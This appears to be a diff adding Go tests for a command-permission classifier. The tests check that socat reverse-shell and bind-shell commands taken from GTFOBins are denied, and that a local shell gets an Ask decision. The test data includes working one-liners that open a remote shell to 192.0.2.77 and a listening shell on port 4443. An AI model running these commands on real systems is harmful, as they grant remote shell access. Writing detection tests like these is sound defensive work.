@@ -154,3 +154,13 @@ func TestClassR19GTFOCodeFileCalls(t *testing.T) {
 		{src: `julia -e 'open(io -> write(io, "ok"), "build/status.txt", "w")'`, decision: Allow, source: "Julia Base.open"},
 	})
 }
+
+// socat attaches a program to a connection only when one address is a network address; a
+// program on stdio or writing a file stays on this machine (not a reverse shell).
+func TestClassR19GTFOSocatLocal(t *testing.T) {
+	runGTFOCases(t, []gtfoCase{
+		{src: `socat TCP4:192.0.2.77:8443 EXEC:/bin/bash,pty,stderr`, decision: Deny, rule: "net.reverse-shell", source: "GTFOBins socat reverse-shell"},
+		{src: `socat OPENSSL-LISTEN:4443,fork,verify=0 SYSTEM:sh`, decision: Deny, rule: "net.reverse-shell", source: "GTFOBins socat bind-shell"},
+		{src: `socat - EXEC:/bin/sh,pty,ctty`, decision: Ask, source: "GTFOBins socat shell (no network)"},
+	})
+}
